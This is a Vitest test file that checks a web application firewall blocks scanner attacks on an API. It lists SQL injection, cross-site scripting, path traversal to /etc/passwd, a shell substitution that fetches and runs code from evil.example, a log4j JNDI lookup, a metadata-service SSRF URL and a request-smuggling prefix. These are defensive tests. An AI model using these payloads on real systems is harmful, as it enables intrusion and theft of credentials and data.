import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { connect } from "node:net";
import { expect, inject, test } from "vitest";

const url = inject("url");

/** Attacks as scanners send them; each has to be stopped before the API sees it. */
const IN_ADDRESS: readonly (readonly [string, string])[] = [
  ["SQL injection, union", "1' UNION SELECT email, password_hash FROM account--"],
  ["SQL injection, always true", "' OR '1'='1"],
  ["SQL injection, time", "1; SELECT pg_sleep(10)--"],
  ["cross-site scripting, tag", "<script>alert(1)</script>"],
  ["cross-site scripting, handler", "<img src=x onerror=alert(document.cookie)>"],
  ["cross-site scripting, address", "<a href=javascript:alert(1)>x</a>"],
  ["path traversal", "../../../../etc/passwd"],
  ["path traversal, encoded", "..%2f..%2f..%2fetc%2fshadow"],
  ["shell", "x; cat /etc/passwd"],
  ["shell, substitution", "$(wget http://evil.example/x -O- | sh)"],
  ["log4j", "${jndi:ldap://evil.example/a}"],
  ["PHP", "php://filter/convert.base64-encode/resource=index.php"],
  ["remote file", "http://169.254.169.254/latest/meta-data/?x=/etc/passwd"],
  ["template", "{{constructor.constructor('return process')()}}<script>"],
];

const isStopped = async (answer: Response) => {
  expect(answer.status).toBe(403);
  expect(answer.headers.get("x-request-id"), "the API has seen it").toBeNull();
};

test.each(IN_ADDRESS)("%s in an address is stopped", async (_, attack) => {
  await isStopped(await fetch(`${url}/api/menu-items?q=${encodeURIComponent(attack)}`));
});

test.each(IN_ADDRESS.slice(0, 9))("%s in a body is stopped", async (_, attack) => {
  const body = JSON.stringify({ email: attack, password: "x" });
  await isStopped(
    await fetch(`${url}/api/auth/login`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body,
    }),
  );
});

/** At this paranoia level the rule set looks for a statement alone in addresses and bodies, and for the others in headers, too. */
const IN_HEADER = IN_ADDRESS.slice(0, 6).filter(([name]) => name !== "SQL injection, time");

test.each(IN_HEADER)("%s in a header is stopped", async (_, attack) => {
  await isStopped(
    await fetch(`${url}/api/shops`, {
      headers: { "X-Cart-Token": attack, Referer: `http://x/?q=${attack}` },
    }),
  );
});

test.each(["sqlmap/1.7", "Nikto/2.5", "masscan/1.3", "Mozilla/5.0 ${jndi:ldap://evil.example/a}"])(
  "%s is stopped",
  async agent => {
    await isStopped(await fetch(`${url}/api/shops`, { headers: { "User-Agent": agent } }));
  },
);

test.each(["/.env", "/.git/config", "/wp-config.php.bak", "/api/../../etc/passwd"])(
  "nothing is found at %s",
  async path => {
    expect(await raw(`GET ${path} HTTP/1.1\r\nHost: wayfare\r\nConnection: close\r\n\r\n`)).toMatch(
      /^HTTP\/1.1 (400|403|404) /,
    );
  },
);

test.each(["TRACE", "CONNECT", "PROPFIND"])("the method %s is refused", async method => {
  expect(await raw(`${method} /api/shops HTTP/1.1\r\nHost: wayfare\r\nConnection: close\r\n\r\n`)).toMatch(
    /^HTTP\/1.1 (400|403|405) /,
  );
});

test("two lengths at once, the beginning of a smuggled request, are refused", async () => {
  const request =
    "POST /api/auth/login HTTP/1.1\r\nHost: wayfare\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET";
  expect(await raw(request)).toMatch(/^HTTP\/1.1 (400|403) /);
});

test("a body that is no JSON is refused, and so is a kind that the API doesn't take", async () => {
  const send = (type: string, body: string) =>
    fetch(`${url}/api/auth/login`, { method: "POST", headers: { "Content-Type": type }, body });
  expect((await send("application/json", '{"email": ')).status).toBe(400);
  expect((await send("application/x-www-form-urlencoded", "email=a&password=b")).status).toBe(403);
  expect((await send("text/xml", "<a/>")).status).toBe(403);
});

test("the log tells what was stopped, and no password", async () => {
  const headers = { "Content-Type": "application/json" };
  const body = JSON.stringify({ email: "<script>alert(1)</script>", password: "a-secret-that-nobody-logs" });
  await isStopped(await fetch(`${url}/api/auth/login`, { method: "POST", headers, body }));
  const log = () => readFileSync(inject("log"), "utf8");
  await expect.poll(log).toContain('"uri":"/api/auth/login"');
  expect(log()).not.toContain("a-secret-that-nobody-logs");
});

test("it doesn't begin with an address that isn't one, or where its log would be lost", () => {
  const begin = (env: Record<string, string>, out: "ignore" | "pipe") => {
    const ended = spawnSync(inject("program"), {
      env: { ...process.env, ...env },
      stdio: ["ignore", out, "pipe"],
    });
    return [ended.status, ended.stderr.toString()];
  };
  expect(begin({ WAYFARE_API: "api:5000; root /etc" }, "pipe")).toEqual([
    2,
    expect.stringContaining("host:port"),
  ]);
  expect(begin({ WAYFARE_TILES: "https://tiles.example 'unsafe-inline'" }, "pipe")[0]).toBe(2);
  expect(begin({}, "ignore")).toEqual([2, expect.stringContaining("/dev/null")]);
});

function raw(request: string): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((done, failed) => {
    let text = "";
    const socket = connect(Number(port), hostname, () => socket.write(request));
    socket.on("data", data => {
      text += data;
    });
    socket.on("end", () => done(text));
    socket.on("error", failed);
  });
}
